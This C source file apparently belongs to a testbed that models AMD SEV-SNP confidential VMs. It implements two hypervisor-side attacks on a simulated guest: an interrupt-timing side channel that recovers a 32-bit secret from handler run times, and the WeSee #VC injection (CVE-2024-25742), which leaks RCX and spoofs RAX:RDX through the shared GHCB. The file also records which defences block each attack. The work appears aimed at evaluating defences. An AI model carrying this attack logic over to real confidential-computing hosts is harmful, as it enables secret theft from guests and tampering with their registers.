/*
 * host/attacks/atk_irq.c - the hypervisor's event injection (H4) against a guest that idles
 * (HLT), with the agent's diagnostics ops IRQWORK and REGHOLD (docs/guest.md):
 *
 * - interrupt timing (THREAT-MODEL.md N5): the host injects one interrupt per idle HLT and
 *   times, with the machine's cycle counter, how long the guest runs before it idles again.
 *   The agent's IRQWORK job (a test fixture) does one step of a computation over a secret per
 *   event, a set bit costing more than a clear one; the host recovers the secret bit by bit.
 *   Enabling condition: the host delivers the guest's interrupts and owns the clock. Defence:
 *   none in SNP (conceded, SUCCEEDED everywhere); constant-time handlers in the guest.
 *   RestrictedInjection (snp-patched launches with it here) only narrows the vector to #HV:
 *   the host injects #HV instead, and the guest's handler still runs on the host's schedule.
 * - WeSee (attacks.md G2, CVE-2024-25742): the host injects #VC (vector 29) with exit code
 *   0x7C (MSR) while the guest idles. The guest's #VC handler believes its RDMSR trapped: it
 *   copies RCX into the shared GHCB (a register leak) and loads the host's answer into
 *   RAX:RDX (a register write). Defence: RestrictedInjection in SEV_FEATURES (VMRUN refuses
 *   any vector but #HV); a guest check that the instruction at RIP matches the exit code (the
 *   Linux fix) would also stop it, the modelled #VC handler has none. A plain VM has no #VC:
 *   there the hypervisor writes RAX:RDX in the host-readable save area at the same exit.
 */
#include "host/attacks/atk_int.h"

#include "snpkit/ghcb.h"
#include "snpkit/util.h"
#include "snpkit/vmsa.h"

#include <string.h>

#define IRQ_ROUNDS     32u /* bits of the secret, one event each (SNP_APP_IRQWORK_MAX) */
#define IRQ_TIMER_VEC  0x20u
#define IRQ_MIN_SPREAD 8u /* cycles: below this the handler times are all one class */
#define MAX_TO_IDLE    8u /* exits from a request to the guest's first HLT */
#define SPOOF_RAX      UINT32_C(0x41414141)
#define SPOOF_RDX      UINT32_C(0x42424242)
#define SENTINEL_EXIT  UINT64_C(0xA77AC4E7A77AC4E7) /* no exit code (VMEXIT_INVALID is -1) */

static uint32_t
get32le(const uint8_t *p)
{
    return (uint32_t)p[0] | (uint32_t)p[1] << 8 | (uint32_t)p[2] << 16 | (uint32_t)p[3] << 24;
}

static uint64_t
get64le(const uint8_t *p)
{
    return (uint64_t)get32le(p) | (uint64_t)get32le(p + 4) << 32;
}

/*
 * Resume vCPU 0 for one exit; *hlt tells whether it was the guest's HLT. The VMM's status
 * names the exit of a VMGEXIT (SNP) and of a stop, not of an automatic exit it has nothing to
 * serve: the attacker clears the field first, so an untouched one means HLT (no preemption
 * tick is set here). A plain VM's exit code is in its host-readable save area.
 */
static snp_err
step_exit(struct snp_atk_ctx *c, struct atk_vm *vm, bool *hlt)
{
    unsigned calls = vm->chan_calls;

    *hlt = false;
    vm->v->status.last_exit = SENTINEL_EXIT;
    SNP_TRY(atk_vm_step(vm));
    if (vm->st.stop != SNP_VMM_RUNNING || vm->chan_calls != calls) {
        return SNP_OK;
    }
    if (c->profile == SNP_ATK_PLAIN) {
        uint8_t page[SNP_VMSA_SIZE];
        struct snp_vmsa s;
        SNP_ENSURE(snp_host_read(c->m, vm->v->vmsa_spa[0], page, sizeof(page)) == SNP_HW_OK,
                   SNP_E_STATE);
        SNP_TRY(snp_vmsa_decode(&s, page, sizeof(page), NULL));
        *hlt = s.guest_exit_code == SNP_EXIT_HLT;
        snp_wipe(&s, sizeof(s));
    } else {
        *hlt = vm->st.last_exit == SENTINEL_EXIT;
    }
    return SNP_OK;
}

/* Resume until the guest's next HLT; false when it answered, stopped or never idled. */
static snp_err
to_idle(struct snp_atk_ctx *c, struct atk_vm *vm, bool *hlt)
{
    *hlt = false;
    for (unsigned n = 0; n < MAX_TO_IDLE && !*hlt && vm->st.stop == SNP_VMM_RUNNING; n++) {
        SNP_TRY(step_exit(c, vm, hlt));
    }
    return SNP_OK;
}

static bool
vmrun_refused(const struct atk_vm *vm)
{
    return vm->st.stop == SNP_VMM_STOP_ERROR && vm->st.last_exit == SNP_EXIT_INVALID;
}

/* The guest's answer body to @op (status 0, at least @len bytes), or NULL. */
static const uint8_t *
answer(const struct atk_vm *vm, uint8_t op, size_t len)
{
    if (vm->st.stop != SNP_VMM_RUNNING || vm->last_len < 4 + len ||
        vm->last[0] != (uint8_t)(op | SNP_CHAN_OP_RESPONSE) || vm->last[1] != 0) {
        return NULL;
    }
    return vm->last + 4;
}

/* ---- N5: interrupt timing ------------------------------------------------------------- */

snp_err
atk_irq_timing(struct snp_atk_ctx *c, struct snp_atk_observed *obs)
{
    struct snp_vmm_launch l;
    struct atk_vm vm;
    uint8_t msg[8];
    uint64_t ev, d[IRQ_ROUNDS], base = 0, top = 0, low = UINT64_MAX, t0;
    uint32_t guess = 0, steps, secret;
    const uint8_t *a;
    unsigned done = 0;
    bool hlt = false;
    char b[96];
    snp_err err;

    atk_launch_default(c, &l);
    if (c->profile == SNP_ATK_SNP_PATCHED) {
        /* protected injection: only #HV gets in, so the host uses #HV */
        l.guest_features = SNP_VMSA_FEAT_SNP_ACTIVE | SNP_VMSA_FEAT_RESTRICTED_INJECTION;
        ev =
            SNP_VMSA_EVENTINJ_VALID | (UINT64_C(3) << SNP_VMSA_EVENTINJ_TYPE_SHIFT) | SNP_VECTOR_HV;
    } else {
        ev = SNP_VMSA_EVENTINJ_VALID | IRQ_TIMER_VEC; /* type 0: external interrupt */
    }
    memset(msg, 0, sizeof(msg));
    msg[0] = SNP_CHAN_OP_IRQWORK;
    msg[4] = (uint8_t)IRQ_ROUNDS;
    err = atk_vm_start(c, &vm, &l, msg, sizeof(msg));
    if (err != SNP_OK) {
        goto out;
    }
    vm.next_len = atk_msg_shutdown(vm.next); /* handed with the IRQWORK answer */
    vm.last_len = 0;
    err = to_idle(c, &vm, &hlt);
    if (err != SNP_OK) {
        goto out;
    }
    if (!hlt) {
        atk_evidence(obs, SNP_ATK_NOT_RUN, "the guest never idled; guest %s",
                     atk_stop_text(&vm, b, sizeof(b)));
        goto out;
    }
    /* calibration: one idle period with no event */
    t0 = snp_host_cycles(c->m);
    err = step_exit(c, &vm, &hlt);
    if (err != SNP_OK) {
        goto out;
    }
    base = snp_host_cycles(c->m) - t0;
    atk_trace(c, SNP_ATK_ACT_HV,
              "idle period without an event: %llu cycles; now EVENTINJ 0x%llx at each HLT",
              (unsigned long long)base, (unsigned long long)ev);
    for (; done < IRQ_ROUNDS && hlt; done++) {
        err = snp_host_inject(c->m, vm.v->vcpu_ids[0], ev);
        if (err != SNP_OK) {
            goto out;
        }
        t0 = snp_host_cycles(c->m);
        err = step_exit(c, &vm, &hlt);
        if (err != SNP_OK) {
            goto out;
        }
        d[done] = snp_host_cycles(c->m) - t0;
        top = d[done] > top ? d[done] : top;
        low = d[done] < low ? d[done] : low;
    }
    if (vmrun_refused(&vm)) {
        atk_evidence(obs, SNP_ATK_BLOCKED_HW,
                     "VMRUN with EVENTINJ 0x%llx refused (VMEXIT_INVALID): no event reached "
                     "the guest, nothing to time",
                     (unsigned long long)ev);
        goto out;
    }
    if (done < IRQ_ROUNDS) {
        atk_evidence(obs, SNP_ATK_NOT_RUN, "the guest stopped idling after %u event(s); guest %s",
                     done, atk_stop_text(&vm, b, sizeof(b)));
        goto out;
    }
    /* a step is a set bit when it took clearly longer than an idle period without an event */
    for (unsigned i = 0; i < IRQ_ROUNDS; i++) {
        if (top > base + IRQ_MIN_SPREAD && d[i] > base + (top - base) / 2) {
            guess |= UINT32_C(1) << i;
        }
    }
    atk_trace(c, SNP_ATK_ACT_HV,
              "handler times: %llu..%llu cycles per event (idle %llu): secret guessed 0x%08x",
              (unsigned long long)low, (unsigned long long)top, (unsigned long long)base, guess);
    err = atk_vm_exchange(&vm, vm.next, vm.next_len);
    if (err != SNP_OK) {
        goto out;
    }
    if ((a = answer(&vm, SNP_CHAN_OP_IRQWORK, 8)) == NULL) {
        atk_evidence(obs, SNP_ATK_NOT_RUN, "no IRQWORK answer; guest %s",
                     atk_stop_text(&vm, b, sizeof(b)));
        goto out;
    }
    steps = get32le(a);
    secret = get32le(a + 4); /* revealed by the fixture only to score the guess */
    atk_trace(c, SNP_ATK_ACT_GUEST, "IRQWORK: %u step(s) done; its secret was 0x%08x", steps,
              secret);
    if (steps != IRQ_ROUNDS) {
        atk_evidence(obs, SNP_ATK_BLOCKED_HW,
                     "the guest's handler ran %u of %u steps: the events did not reach it", steps,
                     IRQ_ROUNDS);
    } else if (guess == secret) {
        atk_evidence(obs, SNP_ATK_SUCCEEDED,
                     "recovered the guest's %u-bit secret 0x%08x from its handler times (vector "
                     "0x%llx; idle %llu cycles, a set bit up to %llu)",
                     IRQ_ROUNDS, guess, (unsigned long long)(ev & SNP_VMSA_EVENTINJ_VECTOR_MASK),
                     (unsigned long long)base, (unsigned long long)top);
    } else {
        atk_evidence(obs, SNP_ATK_BLOCKED_HW,
                     "handler times did not reveal the secret: guessed 0x%08x, it was 0x%08x "
                     "(idle %llu cycles, max %llu)",
                     guess, secret, (unsigned long long)base, (unsigned long long)top);
    }
out:
    atk_vm_free(&vm);
    return err;
}

/* ---- WeSee: #VC injection ------------------------------------------------------------- */

/* Plain VM: the save area is host memory; read RCX, write RAX:RDX. */
static snp_err
plain_regs(struct snp_atk_ctx *c, struct atk_vm *vm, uint64_t *rcx)
{
    uint8_t page[SNP_VMSA_SIZE];
    struct snp_vmsa s;
    uint64_t pf = 0;
    snp_err err;

    SNP_ENSURE(snp_host_read(c->m, vm->v->vmsa_spa[0], page, sizeof(page)) == SNP_HW_OK,
               SNP_E_STATE);
    SNP_TRY(snp_vmsa_decode(&s, page, sizeof(page), NULL));
    *rcx = s.rcx;
    s.rax = SPOOF_RAX;
    s.rdx = SPOOF_RDX;
    err = snp_vmsa_encode(page, &s);
    if (err == SNP_OK &&
        snp_host_write(c->m, vm->v->vmsa_spa[0], page, sizeof(page), &pf) != SNP_HW_OK) {
        err = SNP_E_STATE;
    }
    snp_wipe(&s, sizeof(s));
    return err;
}

/* SNP: the guest's #VC handler asked for the MSR; answer with the host's RAX:RDX. */
static snp_err
ghcb_spoof(struct snp_atk_ctx *c, struct atk_vm *vm, uint64_t *rcx)
{
    uint8_t page[SNP_GHCB_SIZE];
    struct snp_ghcb g;
    uint64_t spa = 0, pf = 0;

    SNP_ENSURE(vm->v->ghcb_gpas[0] != 0 && atk_gpa_spa(vm, vm->v->ghcb_gpas[0], &spa), SNP_E_STATE);
    SNP_ENSURE(snp_host_read(c->m, spa, page, sizeof(page)) == SNP_HW_OK, SNP_E_STATE);
    SNP_TRY(snp_ghcb_decode(&g, page, sizeof(page), NULL));
    *rcx = g.rcx; /* the handler copied the guest's RCX into the shared page */
    g.rax = SPOOF_RAX;
    g.rdx = SPOOF_RDX;
    SNP_TRY(snp_ghcb_encode(page, &g));
    SNP_ENSURE(snp_host_write(c->m, spa, page, sizeof(page), &pf) == SNP_HW_OK, SNP_E_STATE);
    return SNP_OK;
}

snp_err
atk_wesee(struct snp_atk_ctx *c, struct snp_atk_observed *obs)
{
    struct snp_vmm_launch l;
    struct atk_vm vm;
    uint8_t msg[4];
    uint64_t ev = SNP_VMSA_EVENTINJ_VALID | SNP_VMSA_EVENTINJ_EV |
                  (UINT64_C(3) << SNP_VMSA_EVENTINJ_TYPE_SHIFT) | SNP_VECTOR_VC |
                  (SNP_NAE_MSR << SNP_VMSA_EVENTINJ_ERRCODE_SHIFT);
    uint64_t rcx_seen = 0, rax, rdx, rcx;
    uint32_t vcs;
    const uint8_t *a;
    bool hlt = false, asked = false;
    char b[96];
    snp_err err;

    atk_launch_default(c, &l);
    if (c->profile == SNP_ATK_SNP_PATCHED) {
        l.guest_features = SNP_VMSA_FEAT_SNP_ACTIVE | SNP_VMSA_FEAT_RESTRICTED_INJECTION;
    }
    memset(msg, 0, sizeof(msg));
    msg[0] = SNP_CHAN_OP_REGHOLD;
    err = atk_vm_start(c, &vm, &l, msg, sizeof(msg));
    if (err != SNP_OK) {
        goto out;
    }
    vm.next_len = atk_msg_shutdown(vm.next);
    vm.last_len = 0;
    err = to_idle(c, &vm, &hlt);
    if (err != SNP_OK) {
        goto out;
    }
    if (!hlt) {
        atk_evidence(obs, SNP_ATK_NOT_RUN, "the guest never idled; guest %s",
                     atk_stop_text(&vm, b, sizeof(b)));
        goto out;
    }
    if (c->profile == SNP_ATK_PLAIN) {
        /* no #VC in a plain VM: the trusted hypervisor just edits the registers */
        err = plain_regs(c, &vm, &rcx_seen);
        if (err != SNP_OK) {
            goto out;
        }
        asked = true;
        atk_trace(c, SNP_ATK_ACT_HV, "save area at the HLT: RCX 0x%llx; wrote RAX 0x%x RDX 0x%x",
                  (unsigned long long)rcx_seen, SPOOF_RAX, SPOOF_RDX);
    } else {
        atk_trace(c, SNP_ATK_ACT_HV,
                  "SEV_FEATURES 0x%llx; at the guest's HLT: EVENTINJ 0x%llx (#VC, error code "
                  "0x%llx = MSR)",
                  (unsigned long long)l.guest_features, (unsigned long long)ev,
                  (unsigned long long)SNP_NAE_MSR);
        err = snp_host_inject(c->m, vm.v->vcpu_ids[0], ev);
        if (err == SNP_OK) {
            err = step_exit(c, &vm, &hlt);
        }
        if (err != SNP_OK) {
            goto out;
        }
        if (vmrun_refused(&vm)) {
            atk_evidence(obs, SNP_ATK_BLOCKED_HW,
                         "VMRUN with EVENTINJ #VC (vector %u) refused (VMEXIT_INVALID): "
                         "RestrictedInjection lets only #HV in; the #VC handler never ran",
                         SNP_VECTOR_VC);
            goto out;
        }
        if (vm.st.stop == SNP_VMM_RUNNING && vm.st.last_exit == SNP_NAE_MSR) {
            err = ghcb_spoof(c, &vm, &rcx_seen);
            if (err != SNP_OK) {
                goto out;
            }
            asked = true;
            atk_trace(c, SNP_ATK_ACT_HV,
                      "the guest's #VC handler asked for RDMSR (GHCB RCX 0x%llx); answered RAX "
                      "0x%x RDX 0x%x",
                      (unsigned long long)rcx_seen, SPOOF_RAX, SPOOF_RDX);
        }
    }
    err = atk_vm_exchange(&vm, vm.next, vm.next_len);
    if (err != SNP_OK) {
        goto out;
    }
    if ((a = answer(&vm, SNP_CHAN_OP_REGHOLD, 28)) == NULL) {
        if (atk_guest_terminated(&vm)) {
            atk_evidence(obs, SNP_ATK_DETECTED_GUEST, "injected #VC: guest %s",
                         atk_stop_text(&vm, b, sizeof(b)));
        } else {
            atk_evidence(obs, SNP_ATK_NOT_RUN, "no REGHOLD answer; guest %s",
                         atk_stop_text(&vm, b, sizeof(b)));
        }
        goto out;
    }
    rax = get64le(a);
    rdx = get64le(a + 8);
    rcx = get64le(a + 16);
    vcs = get32le(a + 24);
    atk_trace(c, SNP_ATK_ACT_GUEST, "after its HLT: RAX 0x%llx RDX 0x%llx (%u #VC handled)",
              (unsigned long long)rax, (unsigned long long)rdx, vcs);
    if (asked && rax == SPOOF_RAX && rdx == SPOOF_RDX) {
        atk_evidence(obs, SNP_ATK_SUCCEEDED,
                     "%s: the guest's RAX:RDX became the host's 0x%x:0x%x across an HLT, and "
                     "the host saw its RCX 0x%llx (%s)",
                     c->profile == SNP_ATK_PLAIN
                         ? "plain VM, save area edited"
                         : "injected #VC 0x7C reached the guest's #VC handler",
                     SPOOF_RAX, SPOOF_RDX, (unsigned long long)rcx_seen,
                     rcx_seen == rcx ? "the guest's own value" : "not the guest's value");
    } else {
        atk_evidence(obs, SNP_ATK_BLOCKED_HW,
                     "the guest's registers kept their values (RAX 0x%llx, %u #VC handled)",
                     (unsigned long long)rax, vcs);
    }
out:
    atk_vm_free(&vm);
    return err;
}
